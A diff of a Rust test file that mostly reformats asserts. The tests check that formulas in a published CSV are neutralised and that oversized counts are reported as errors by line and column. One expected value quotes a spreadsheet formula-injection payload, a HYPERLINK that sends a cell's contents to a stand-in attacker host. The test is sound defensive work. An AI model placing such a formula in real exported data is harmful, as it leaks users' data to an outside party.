@@ -56,7 +56,11 @@ fn formulas_in_the_published_csv_are_neutralised() {
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
     );
     assert_eq!(note("2022-05", "mot-cua", "dang-ky-khai-sinh"), "'@SUM(A1)");
-    assert_eq!(note("2022-05", "ubnd", ""), "-5", "a plain negative number stays");
+    assert_eq!(
+        note("2022-05", "ubnd", ""),
+        "-5",
+        "a plain negative number stays"
+    );
     assert_eq!(note("2022-05", "mot-cua", ""), "first\rsecond");
     // A bare CR is quoted, so it cannot split the row.
     assert!(csv.contains(",\"first\rsecond\"\n"), "{csv:?}");
@@ -86,13 +90,19 @@ fn counts_that_would_wrap_are_located_errors() {
     let dir = hostile("stats-overflow");
     let site = minhbach::check(dir.path(), Some(today()));
     let file = "content/stats/2022/2022-06.yaml";
-    let d = find(&site, "carried_over `18446744073709551615` is too large for a count");
+    let d = find(
+        &site,
+        "carried_over `18446744073709551615` is too large for a count",
+    );
     assert_eq!((d.file.as_str(), d.line, d.col), (file, 3, 17));
     assert_eq!(
         d.help.as_deref(),
         Some("a count is at most 1.000.000.000.000: check for extra digits")
     );
-    let d = find(&site, "carried_over `18446744073709551616` is too large for a count");
+    let d = find(
+        &site,
+        "carried_over `18446744073709551616` is too large for a count",
+    );
     assert_eq!((d.line, d.col), (10, 17));
     assert!(
         !site
